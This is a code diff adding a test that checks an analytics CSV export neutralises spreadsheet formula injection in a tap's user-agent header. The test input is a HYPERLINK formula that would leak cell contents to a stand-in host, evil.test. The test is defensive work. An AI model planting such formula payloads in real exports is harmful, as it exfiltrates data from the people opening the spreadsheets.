@@ -1,3 +1,4 @@
+import { restoreFormula } from '@sparkmotion/shared/csv/formula-guard';
 import { parse } from 'csv-parse/sync';
 import { beforeAll, describe, expect, test } from 'vitest';
 import { PHONE_USER_AGENT, useTestCloud } from '../../test/support/index.ts';
@@ -97,6 +98,24 @@ describe('tap analytics', () => {
     } while (cursor && pages < 10);
     expect(seen).toHaveLength(4);
     expect(new Set(seen).size).toBe(4);
+  });
+
+  test("writes a tap's user agent that a spreadsheet would run as a formula inert, and it reads back as sent", async () => {
+    const ua = '=HYPERLINK("https://evil.test/?leak="&A1,"Click for your prize")';
+    clock += 5000;
+    const res = await fetch(`${tc.url}/e?bandId=${tc.demo.bandIds[3]}`, {
+      redirect: 'manual',
+      headers: { 'user-agent': ua },
+    });
+    await tc.cloud.taps.drain();
+    const input = { orgId: tc.demo.orgId, eventId: tc.demo.eventId, limit: 1000 };
+    const { csv } = await tc.client.analytics.exportCsv.query(input);
+    const line = csv.split('\n').find((l) => l.startsWith(res.headers.get('x-tap-id')!))!;
+    expect(line.endsWith(`"'=HYPERLINK(""https://evil.test/?leak=""&A1,""Click for your prize"")"`)).toBe(true);
+    const records = parse(csv, { columns: true }) as Array<Record<string, string>>;
+    const row = records.find((r) => r.tap_id === res.headers.get('x-tap-id'))!;
+    expect(row.user_agent).toBe(`'${ua}`);
+    expect(restoreFormula(row.user_agent!)).toBe(ua);
   });
 
   test('keeps other organizations out', async () => {
